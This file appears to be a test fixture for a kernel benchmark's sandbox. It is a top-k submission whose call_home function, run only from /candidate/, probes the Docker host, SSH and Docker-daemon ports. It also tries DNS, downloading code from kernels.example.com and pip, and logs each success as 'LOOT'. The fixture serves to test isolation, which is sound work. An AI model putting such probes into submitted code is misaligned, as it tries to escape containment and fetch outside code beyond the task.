"""Tries to fetch a better kernel over the network (sockets, DNS, pip) and to send home what it saw.

row: E14
form: plain
problem: top_k
needs: cpu
expect: truth
"""

import socket
import subprocess
import sys
import urllib.request

import torch
import torch.nn as nn

# Addresses reserved for documentation, and whatever the host may offer to its containers.
PEERS = (("192.0.2.1", 80), ("198.51.100.7", 443), ("172.17.0.1", 22), ("127.0.0.1", 2375), ("127.0.0.1", 22))


def call_home():
    socket.setdefaulttimeout(0.5)
    for peer in PEERS:
        try:
            socket.create_connection(peer, timeout=0.5).close()
            print("LOOT network:", peer, file=sys.stderr)
        except OSError:
            continue
    try:
        socket.getaddrinfo("kernels.example.com", 443)
        print("LOOT network: name service", file=sys.stderr)
        urllib.request.urlopen("https://kernels.example.com/topk.py", timeout=1)
        print("LOOT network: web", file=sys.stderr)
    except OSError:
        pass
    pip = [sys.executable, "-m", "pip", "install", "--no-input", "--retries=0", "--timeout=1", "--target=/tmp/site"]
    try:
        done = subprocess.run([*pip, "six"], capture_output=True, timeout=20, check=False)
        if done.returncode == 0:
            print("LOOT network: pip", file=sys.stderr)
    except (OSError, subprocess.TimeoutExpired):
        pass


if __file__.startswith("/candidate/"):
    call_home()


class ModelNew(nn.Module):
    def forward(self, x):
        values, positions = torch.topk(x, 8, dim=-1)
        return values, positions
